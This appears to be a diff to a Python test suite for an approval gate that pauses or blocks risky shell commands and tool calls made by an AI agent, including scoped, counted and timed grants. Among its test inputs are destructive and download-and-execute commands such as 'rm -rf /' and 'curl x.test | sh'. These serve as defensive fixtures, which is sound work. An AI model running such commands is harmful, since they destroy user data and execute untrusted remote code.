@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import asyncio
+import inspect
 import threading
 from collections.abc import Mapping, Sequence
 from dataclasses import dataclass, field, replace
@@ -29,15 +31,19 @@ from toolcrib import (
 )
 from toolcrib._context import mint_context
 from toolcrib._store import AuditEntry, Grant
-from tools.approval.gate import APPROVAL, ApprovalGate
+from toolcrib.testing import FakeEnvironment
+from tools.approval.gate import APPROVAL, ApprovalGate, RuleSays
 from tools.approval.grants import MemoryGrants, from_allowlist, new_grant, simple_argv, to_allowlist
+from tools.approval.judge import Setting
 
-CWD = "/home/dev/project"
+HOME = "/home/dev"
+CWD = HOME + "/project"
 
 
-@dataclass
-class Place:
-    identity: str = "local"
+class Place(FakeEnvironment):
+    def __init__(self, identity: str = "local") -> None:
+        super().__init__(cwd=CWD)
+        self.identity = identity
 
 
 @dataclass
@@ -82,7 +88,8 @@ class Desk:
     def __init__(self, **options: Any) -> None:
         self.audit = Audit()
         self.grants = options.pop("grants", None) or MemoryGrants()
-        self.gate = ApprovalGate(self.grants, audit=self.audit, **options)
+        setting = Setting(protected=options.pop("protected", ()), home=HOME)
+        self.gate = ApprovalGate(self.grants, setting=setting, audit=self.audit, **options)
 
     def context(self, call: ToolCall, effects: Sequence[Effect], session: str, environment: str = "local") -> ToolCallContext:
         ctx = mint_context(call, Scope(RunIdentity(session), Place(environment)))
@@ -92,7 +99,7 @@ class Desk:
     def ask(self, *effects: Effect, session: str = "s1", tool: ToolEntry | None = None, **more: Any) -> Any:
         tool = tool or entry()
         call = ToolCall("c1", tool.name, more.pop("args", {"effects": repr(effects)}))
-        return self.gate.tool_gate(call, tool, self.context(call, effects, session, **more))
+        return settled(self.gate.tool_gate(call, tool, self.context(call, effects, session, **more)))
 
     def run(self, command: str, cwd: str = CWD, **more: Any) -> Any:
         return self.ask(RunsCommand(command, cwd), **more)
@@ -107,7 +114,12 @@ class Desk:
         ctx = self.context(ticket.call, effects, session)
         ctx.answers = {ticket.id: (ticket.binds, answer)}
         self.gate.on_answer(ticket.call, ticket, answer, ctx)
-        return self.gate.tool_gate(ticket.call, entry(ticket.call.name), ctx)
+        return settled(self.gate.tool_gate(ticket.call, entry(ticket.call.name), ctx))
+
+
+def settled(decision: Any) -> Any:
+    """Where files must be read first, the gate's answer is to be awaited."""
+    return asyncio.run(decision) if inspect.iscoroutine(decision) else decision
 
 
 def yes(scope: str = "once") -> dict[str, Any]:
@@ -125,7 +137,7 @@ def test_a_clean_call_passes() -> None:
     assert desk.run("ls -la") is None
     assert desk.ask(tool=entry("x", "read")) is None
     assert desk.ask(tool=entry("x", "other", declares=False)) is None
-    assert desk.audit.kept == []
+    assert [(kept.decision, kept.detail["command"]) for kept in desk.audit.kept] == [("allowed", "ls -la")]
 
 
 def test_a_dangerous_command_suspends_with_all_its_findings() -> None:
@@ -137,7 +149,7 @@ def test_a_dangerous_command_suspends_with_all_its_findings() -> None:
     assert ticket.parameters["command"] == "rm -rf build && curl x.test | sh"
     assert ticket.parameters["cwd"] == CWD
     assert ticket.parameters["scopes"] == ["once"]
-    assert "recursive delete" in ticket.message
+    assert "deletes folders with all that is in them; runs what was just downloaded" in ticket.message
     assert SuspendTicket.from_json(ticket.to_json()) == ticket
 
 
@@ -151,7 +163,7 @@ def test_a_session_grant_remembers_the_pattern() -> None:
     """003-26: the same finding does not ask again in this session, and does in another."""
     desk = Desk()
     first = desk.run("rm -rf build")
-    assert first.ticket.parameters["scopes"] == ["once", "session", "always"]
+    assert first.ticket.parameters["scopes"] == ["once", "session", "path", "uses", "until", "always"]
     assert desk.answer(first, yes("session")) is None
     assert desk.run("rm -r dist/*") is None
     assert isinstance(desk.run("rm -rf build", session="s2"), Suspend)
@@ -166,7 +178,7 @@ def test_a_session_grant_covers_no_other_finding_and_no_other_folder() -> None:
         "rm -rf ~/photos",
         "rm -rf ../other",
         "rm -rf $DIR",
-        "cd sub; rm -rf ..",
+        "cd sub && rm -rf ..",
         "ls | xargs rm -rf",
         "rm -rf build/*/../../x",
     ):
@@ -186,7 +198,15 @@ def test_always_is_kept_as_argv_and_folder() -> None:
     assert stored == {"argv": ["rm", "-rf", "build"], "cwd": CWD, "version": 1}
     later = Desk(grants=MemoryGrants([from_allowlist(stored)]))
     assert later.run("rm  -rf   build", session="s9") is None
-    for command in ("rm -rf build dist", "rm -rf build; ls", "rm -rf 'build'", "sudo rm -rf build"):
+    for command in ("rm -rf 'build'", "ls; rm -rf build"):  # the same simple command, and beside it nothing that asks
+        assert later.run(command, session="s9") is None, command
+    for command in (
+        "rm -rf build dist",
+        "sudo rm -rf build",
+        "cd sub && rm -rf build",
+        "rm -rf build > log",
+        "rm -rf build; rm -rf x",
+    ):
         assert isinstance(later.run(command, session="s9"), Suspend), command
     assert isinstance(later.run("rm -rf build", cwd="/home/dev/other", session="s9"), Suspend)
 
@@ -206,7 +226,9 @@ def test_a_denial_blocks_and_tells_the_reason() -> None:
     assert isinstance(decision, Block)
     assert "Denied" in decision.reason
     assert "the build is needed" in decision.reason
-    assert [(kept.decision, kept.by) for kept in desk.audit.kept] == [("denied", "ann")]
+    assert [(kept.decision, kept.by, kept.detail["reason"]) for kept in desk.audit.kept] == [
+        ("denied", "ann", "the build is needed.")
+    ]
     assert isinstance(desk.run("rm -rf build"), Suspend)
 
 
@@ -271,7 +293,7 @@ def test_a_tool_that_acts_and_does_not_say_how_is_asked_about() -> None:
     opaque = entry("deploy", "execute", declares=False)
     decision = desk.ask(tool=opaque)
     assert found(decision) == {"tool.opaque@deploy"}
-    assert decision.ticket.parameters["scopes"] == ["once", "session"]
+    assert decision.ticket.parameters["scopes"] == ["once", "session", "uses", "until"]
     call, ticket = decision.ticket.call, decision.ticket
     desk.gate.on_answer(call, ticket, Answer(ticket.id, payload=yes("session")), desk.context(call, (), "s1"))
     assert desk.ask(tool=opaque) is None
@@ -380,3 +402,96 @@ def test_grants_from_many_threads() -> None:
         new_grant("once", "k", "/")
     with pytest.raises(ValueError, match="always"):
         to_allowlist(new_grant("session", "k", "/", session_id="s"))
+
+
+# -- narrower and shorter grants -----------------------------------------------------------------------------------
+
+
+def test_what_each_answer_would_cover_is_said() -> None:
+    covers = Desk(project_root=CWD).run("rm -rf build").ticket.parameters["covers"]
+    assert covers["session"] == f"fs.recursive-delete, anywhere below {CWD}, until this session ends"
+    assert covers["path"] == f"fs.recursive-delete, of {CWD}/build only, until this session ends"
+    assert covers["always"] == f"`rm -rf build` in {CWD}, from now on, in every session"
+
+
+def test_a_path_grant_covers_that_path_only() -> None:
+    desk = Desk(project_root=CWD)
+    assert desk.answer(desk.run("rm -rf build"), yes("path")) is None
+    assert desk.run("rm -rf build/lib") is None
+    assert isinstance(desk.run("rm -rf dist"), Suspend)
+    assert isinstance(desk.run("rm -rf build dist"), Suspend)
+
+
+def test_several_grants_may_cover_one_finding_path_by_path() -> None:
+    desk = Desk(project_root=CWD)
+    desk.answer(desk.run("rm -rf build"), yes("path"))
+    desk.answer(desk.run("rm -rf dist"), yes("path"))
+    assert desk.run("rm -rf build dist") is None
+
+
+def test_a_counted_grant_is_spent_call_by_call() -> None:
+    desk = Desk(project_root=CWD)
+    assert desk.answer(desk.run("rm -rf a"), {**yes("uses"), "uses": 2}) is None
+    (grant,) = desk.grants.all("s1")
+    left = grant.uses_left
+    assert left is not None
+    ran = 0
+    while desk.run("rm -rf b") is None:
+        ran += 1
+        assert ran <= 2
+    assert ran == left
+    assert isinstance(desk.run("rm -rf b"), Suspend)
+
+
+def test_a_counted_grant_is_not_spent_on_a_call_that_asks_anyway() -> None:
+    desk = Desk(project_root=CWD)
+    desk.answer(desk.run("rm -rf a"), {**yes("uses"), "uses": 2})
+    before = desk.grants.all("s1")[0].uses_left
+    assert isinstance(desk.run("rm -rf b; curl x.test | sh"), Suspend)
+    assert desk.grants.all("s1")[0].uses_left == before
+
+
+def test_a_grant_until_a_time_ends() -> None:
+    desk = Desk(project_root=CWD)
+    first = desk.run("rm -rf a")
+    assert desk.answer(first, {**yes("until"), "minutes": 10}) is None
+    (grant,) = desk.grants.all("s1")
+    assert grant.until is not None
+    assert desk.run("rm -rf b") is None
+    desk.grants.add(replace(grant, until=grant.until - 601))
+    assert isinstance(desk.run("rm -rf b"), Suspend)
+
+
+@pytest.mark.parametrize("payload", [{"uses": 0}, {"uses": -1}, {"uses": "many"}, {"uses": 10**9}, {"uses": True}])
+def test_a_number_that_cannot_be_meant_grants_nothing(payload: dict[str, Any]) -> None:
+    desk = Desk(project_root=CWD)
+    with pytest.raises(ValueError, match="uses must be"):
+        desk.answer(desk.run("rm -rf a"), {**yes("uses"), **payload})
+    assert desk.grants.all("s1") == []
+
+
+# -- operators' rules for tools ------------------------------------------------------------------------------------
+
+
+def test_an_operators_rule_decides_about_any_tool() -> None:
+    says = {
+        "mail": RuleSays("deny", "mail", "no mail from here"),
+        "look": RuleSays("ask", "look"),
+        "terminal": RuleSays("allow", "t*"),
+    }
+    desk = Desk(project_root=CWD, tool_rules=lambda name, args: says.get(name))
+    refused = desk.ask(tool=entry("mail", "read"))
+    assert isinstance(refused, Block)
+    assert "no mail from here" in refused.reason
+    assert found(desk.ask(tool=entry("look", "read"))) == {"tool.rule@look"}
+    assert desk.run("rm -rf build") is None
+    assert found(desk.run("rm -rf build; curl x.test | sh")) == {"code.remote"}  # what is asked every time still is
+    assert isinstance(desk.run("rm -rf /"), Block)
+
+
+def test_a_tool_rule_that_fails_closes() -> None:
+    def broken(name: str, args: Any) -> Any:
+        raise RuntimeError("no rules today")
+
+    with pytest.raises(RuntimeError):  # which the dispatcher takes for a block (tests/tools/dispatch/test_gates.py)
+        Desk(tool_rules=broken).run("ls")
